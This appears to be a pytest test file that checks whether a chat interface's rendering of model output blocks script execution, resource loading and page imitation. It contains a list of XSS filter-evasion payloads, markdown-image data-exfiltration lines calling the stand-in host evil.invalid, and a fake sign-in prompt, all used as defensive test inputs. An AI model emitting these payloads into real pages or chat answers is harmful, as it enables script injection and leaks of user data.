"""Texts of a model that try to run a script, to load something, or to look like the page."""

import pytest

from browser.chromium import Page
from browser.page_server import PageServer
from lm_deluge.events import Citation
from lm_deluge.simulator import Script

# https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, and what leaks data from chats.
TEXTS = (
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "![secret](https://evil.invalid/?q=secret)",
    "![secret][leak]\n\n[leak]: https://evil.invalid/leak.png",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt&colon;window.pwned=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "<svg onload='window.pwned = 1'><animate onbegin='window.pwned = 1'></svg>",
    "<iframe src='https://evil.invalid/' srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<form action='https://evil.invalid/'><input name=key autofocus onfocus='window.pwned = 1'></form>",
    "<style>@import 'https://evil.invalid/a.css'; body { background: url(https://evil.invalid/b) }</style>",
    "<link rel=stylesheet href=https://evil.invalid/c.css><link rel=prefetch href=https://evil.invalid/d>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'><base href='https://evil.invalid/'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "<a href='https://evil.invalid' ping='https://evil.invalid/ping' onclick='window.pwned = 1'>x</a>",
    "<video src=https://evil.invalid/v autoplay onerror='window.pwned=1'></video><object data=https://evil.invalid/o>",
    '```html"><img/src=x/onerror=window.pwned=1>\n<script>window.pwned = 1</script>\n```',
    "[x](https://evil.invalid/\"onmouseover=\"window.pwned=1) <https://evil.invalid/'onclick='x'>",
    "<div id=app name=app class='dialog' style='position:fixed;inset:0'>Sign in again</div><dialog open>Key?</dialog>",
    "<details open ontoggle='window.pwned=1'>x</details><marquee onstart='window.pwned=1'>x</marquee>",
    "| a <img src=x onerror=window.pwned=1> | ![b](//evil.invalid/t.png) |\n|---|---|\n| <b onclick=x>c</b> | d |",
)

# What may not be in an answer, whatever its text: elements that load, send or run something, and attributes that do.
FORBIDDEN = """
const bad = [];
const tags = /^(script|img|svg|iframe|form|input|style|link|meta|base|object|embed|video|audio|math|dialog|marquee)$/i;
const own = (e) => e.tagName === 'svg' && e.closest('summary, .file, .source, .code-bar');
const href = /^(https?:\\/\\/|mailto:|\\/page\\/api\\/files\\/)/;
for (const e of document.querySelectorAll('.message .parts *')) {
  if (tags.test(e.tagName) && !own(e)) bad.push(e.outerHTML);
  for (const {name, value} of e.attributes) {
    if (/^(on|style$|srcdoc$|ping$|id$|name$)/i.test(name)) bad.push(`${name}=${value}`);
    if (name === 'href' && !href.test(value)) bad.push(`${name}=${value}`);
  }
}
return bad;
"""


def unharmed(page: Page) -> None:
    assert page.script("return window.pwned") is None
    assert page.script(FORBIDDEN) == []
    assert page.script("return document.querySelectorAll('.parts a[href]:not([rel~=noopener])').length") == 0


def test_texts_of_a_model_have_no_effect(page: Page, server: PageServer) -> None:
    assert len(TEXTS) >= 20
    for number, text in enumerate(TEXTS):
        server.answers[f"Attack {number}"] = text
        page.ask(f"Attack {number}")
    unharmed(page)
    # As they were stored, too: rendered at once instead of as they arrive.
    page.driver.refresh()
    page.until(lambda: len(page.all(".message")) == 2 * len(TEXTS))
    page.script_async(
        "for (const e of document.querySelectorAll('.message')) {"
        "  e.scrollIntoView(); await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));"
        "}"
    )
    page.until(lambda: page.script("return !document.querySelector('.stub')"))
    unharmed(page)
    # What a person can still do: follow a link, knowing where it leads.
    links = page.script("return [...document.querySelectorAll('.parts a')].map((e) => [e.href, e.title, e.target])")
    assert links
    assert all(href == title or href.startswith(title.rstrip("/")) for href, title, _ in links if href)
    assert all(target == "_blank" for href, _, target in links if href)


@pytest.mark.parametrize("text", [TEXTS[0], TEXTS[1], TEXTS[8]])
def test_other_places_of_foreign_text_have_no_effect(page: Page, server: PageServer, text: str) -> None:
    source = Citation(url="javascript:window.pwned=1", title=text)
    server.answers[text] = Script(
        reasoning=text, text="Done.", tool_calls=[("look", {"q": text}), ("other", text)], extra=[source]
    )
    page.ask(text)
    page.script("for (const e of document.querySelectorAll('details')) e.open = true")
    page.until(lambda: page.script("return document.querySelector('.reasoning .markdown').textContent.length > 0"))
    assert page.text("h1") == text[:60] or page.text("h1").endswith("…")
    assert page.script("return document.querySelector('.source').getAttribute('href')") is None
    unharmed(page)


def test_no_script_can_make_html_of_text(page: Page, server: PageServer) -> None:
    page.violates = True
    outcome = page.script_async(
        "try { document.body.innerHTML = '<b>x</b>'; return 'made'; } catch (error) { return error.name; }"
    )
    assert outcome == "TypeError"
    assert page.script("return document.body.querySelector('#app') !== null")
    page.until(server.reports, "the report")
